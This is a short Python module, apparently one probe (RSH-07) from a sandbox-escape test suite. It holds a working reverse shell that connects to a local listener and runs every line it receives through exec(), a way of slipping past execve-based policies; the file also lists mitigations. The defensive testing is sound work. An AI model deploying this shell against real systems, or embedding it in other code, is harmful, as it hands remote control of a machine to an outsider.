# SPDX-License-Identifier: MIT
"""Goal:  somebody outside gives the orders.
Means: the interpreter is the shell. Each line received goes to exec(); no program is started, so a
       policy of "no execve, no /bin/sh" does not notice.
"""

import contextlib
import io
import socket

from attack import DONE, attempting, deadline, denied


def obey(order):
    """Run one line of Python and return what it printed, or why it would not run."""
    printed = io.StringIO()
    try:
        with contextlib.redirect_stdout(printed):
            exec(order, {})
    except Exception as why:
        return f"{why!r}\n".encode()
    return printed.getvalue().encode()


def run(brief):
    deadline(4)
    attempting()
    try:
        with socket.create_connection(("127.0.0.1", brief.shell), timeout=3) as attacker:
            for order in attacker.makefile("r"):
                attacker.sendall(obey(order))
    except OSError as why:
        return denied("connect", why)
    return DONE


ATTACK = {
    "effect": "somebody outside gives the orders",
    "means": "exec() of each line received: no execve, no fork, no /bin/sh",
    "oracle": "shell",
    "quick": True,
    "id": "RSH-07",
    "attack_id": "T1059.006, T1095, CWE-94",
    "remedy": "seccomp without socket(2); Landlock without connecting; a network namespace",
    "run": run,
}
